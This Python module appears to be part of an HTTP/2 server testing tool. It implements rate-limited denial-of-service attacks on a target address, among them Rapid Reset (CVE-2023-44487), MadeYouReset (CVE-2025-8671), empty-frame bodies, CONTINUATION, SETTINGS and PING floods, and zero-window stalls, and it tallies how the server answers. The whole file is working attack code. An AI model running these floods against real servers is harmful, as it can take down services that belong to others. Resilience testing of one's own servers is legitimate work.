"""HTTP/2 abuse: single frames over a plain socket. Each attack is bounded in time and in rate."""

from __future__ import annotations

import socket
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlsplit

from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from .target import Outcome, Target, paced

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_BYTES = 16 * 1024
MAX_BYTES_AT_ONCE = 100_000


class Connection:
    """One connection, which counts received frames whenever it sends some."""

    def __init__(self, target: Target, outcome: Outcome, settings: dict[int, int] | None = None) -> None:
        self._outcome = outcome
        self._encoder = Encoder()
        self._received = b""
        self._target = target
        self._next_stream = 1
        self.is_open = True
        url = urlsplit(target.address)
        self._socket = socket.create_connection((url.hostname, url.port), timeout=5)
        outcome.connections += 1
        self.send(SettingsFrame(0, settings=settings or {}), start=PREFACE)

    def send(self, *frames: Frame, start: bytes = b"") -> None:
        """Send frames, and count the received ones. The connection ends if the server reads no more."""
        try:
            self._socket.settimeout(1)
            self._socket.sendall(start + b"".join(frame.serialize() for frame in frames))
            self.receive()
        except TimeoutError:
            self._end("not read any more")
        except OSError:
            self.receive()
            self._end("connection reset")

    def receive(self) -> None:
        """Count the received frames."""
        self._socket.setblocking(False)
        with suppress(BlockingIOError, OSError):
            while chunk := self._socket.recv(1 << 20):
                self._received += chunk
            self._end("connection closed")
        while len(self._received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._received[:9]))
            if len(self._received) < 9 + length:
                break
            frame.parse_body(memoryview(self._received[9 : 9 + length]))
            self._received = self._received[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self._outcome.answers[f"GOAWAY {ErrorCodes(frame.error_code).name}"] += 1
                self._end("")
            elif isinstance(frame, RstStreamFrame):
                self._outcome.answers[f"RST_STREAM {ErrorCodes(frame.error_code).name}"] += 1

    def _end(self, how: str) -> None:
        if self.is_open and how:
            self._outcome.answers[how] += 1
        self.is_open = False
        self._socket.close()

    def close(self) -> None:
        self.is_open = False
        self._socket.close()

    def request(
        self, *, path: str | None = None, method: str = "GET", ends: bool = True, **headers: str
    ) -> HeadersFrame:
        """Return the HEADERS of a new stream."""
        pseudo = {":method": method, ":path": path or self._target.path, ":scheme": "http", ":authority": "localhost"}
        named = {**pseudo, **headers}
        frame = HeadersFrame(self._next_stream, self._encoder.encode(list(named.items())), flags=["END_HEADERS"])
        if ends:
            frame.flags.add("END_STREAM")
        self._next_stream += 2
        return frame


def repeat(
    target: Target, seconds: float, per_second: float, attack: Callable[[Connection], None], **settings: int
) -> Outcome:
    """Repeat the attack so many times a second, on a new connection whenever the last one was closed."""
    outcome = Outcome()
    connection = Connection(target, outcome)
    for _ in paced(seconds, per_second):
        if not connection.is_open:
            connection = Connection(target, outcome)
        attack(connection)
        outcome.sent += 1
    connection.receive() if connection.is_open else None
    connection.close()
    return outcome


def rapid_reset(target: Target, seconds: float) -> Outcome:
    """Reset each request at once (CVE-2023-44487)."""

    def attack(connection: Connection) -> None:
        request = connection.request()
        connection.send(request, RstStreamFrame(request.stream_id, error_code=ErrorCodes.CANCEL))

    return repeat(target, seconds, 2000, attack)


def made_you_reset(target: Target, seconds: float) -> Outcome:
    """Make the server reset each request, by an error of the client (CVE-2025-8671)."""

    def attack(connection: Connection) -> None:
        request = connection.request()
        window = WindowUpdateFrame(request.stream_id, window_increment=1)
        no_window = window.serialize()[:-4] + bytes(4)  # an increment of 0 is an error of the stream
        connection.send(request, start=b"")
        if connection.is_open:
            connection.send(start=no_window)

    return repeat(target, seconds, 1000, attack)


def data_after_end(target: Target, seconds: float) -> Outcome:
    """Make the server reset each request, by a body after its end."""

    def attack(connection: Connection) -> None:
        request = connection.request()
        connection.send(request, DataFrame(request.stream_id, b"x"))

    return repeat(target, seconds, 1000, attack)


def continuation_flood(target: Target, seconds: float) -> Outcome:
    """Send headers without an end."""
    field = Encoder().encode([(f"x-{'a' * 100}", "b" * 100)], huffman=False)
    block = field * (FRAME_BYTES // len(field))
    open_streams: dict[int, int] = {}

    def attack(connection: Connection) -> None:
        if id(connection) not in open_streams:
            open_streams.clear()
            request = connection.request()
            request.flags.discard("END_HEADERS")
            open_streams[id(connection)] = request.stream_id
            connection.send(request)
        if connection.is_open:
            connection.send(ContinuationFrame(open_streams[id(connection)], block))

    return repeat(target, seconds, 500, attack)


def settings_flood(target: Target, seconds: float) -> Outcome:
    """Send settings, each of which has to be acknowledged."""
    return _flood(target, seconds, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}))


def ping_flood(target: Target, seconds: float) -> Outcome:
    """Send pings, each of which has to be answered."""
    return _flood(target, seconds, PingFrame(0, b"01234567"))


def priority_flood(target: Target, seconds: float) -> Outcome:
    """Send priorities, which the server ignores."""
    return _flood(target, seconds, PriorityFrame(1))


def _flood(target: Target, seconds: float, frame: Frame) -> Outcome:
    frames = frame.serialize() * (MAX_BYTES_AT_ONCE // len(frame.serialize()))
    return repeat(target, seconds, 50, lambda connection: connection.send(start=frames))


def empty_frames(target: Target, seconds: float) -> Outcome:
    """Send a body of empty frames (CVE-2019-9518)."""
    streams: dict[int, int] = {}

    def attack(connection: Connection) -> None:
        if id(connection) not in streams:
            streams.clear()
            request = connection.request(method="POST", path=target.send_path, ends=False, **target.push_headers(1000))
            streams[id(connection)] = request.stream_id
            connection.send(request)
        if connection.is_open:
            connection.send(*[DataFrame(streams[id(connection)], b"") for _ in range(20)])

    return repeat(target, seconds, 500, attack)


def zero_window(target: Target, seconds: float) -> Outcome:
    """Request large responses without reading them, on 4 connections of 100 streams."""
    return _ask_without_window(target, seconds, 100, lambda connection: connection.request(path=target.large_path))


def large_headers_unread(target: Target, seconds: float) -> Outcome:
    """Send 60 KB of headers for each of 100 streams of 4 connections, and read no response."""
    # Never indexed, so that the server's table stays that of the connection's encoder.
    block = Encoder().encode([(f"x-{number}", "a" * 15_000, True) for number in range(4)], huffman=False)

    def request(connection: Connection) -> HeadersFrame:
        frame = connection.request()
        frame.data += block
        return frame

    return _ask_without_window(target, seconds, 400, request)


def _ask_without_window(
    target: Target, seconds: float, per_second: float, request: Callable[[Connection], HeadersFrame]
) -> Outcome:
    outcome = Outcome()
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    connections = [Connection(target, outcome, settings) for _ in range(4)]
    for number in paced(seconds, per_second):
        connection = connections[number % 4]
        if connection.is_open and number < 400:
            connection.send(request(connection))
            outcome.sent += 1
        elif connection.is_open:
            connection.receive()
    for connection in connections:
        connection.close()
    return outcome
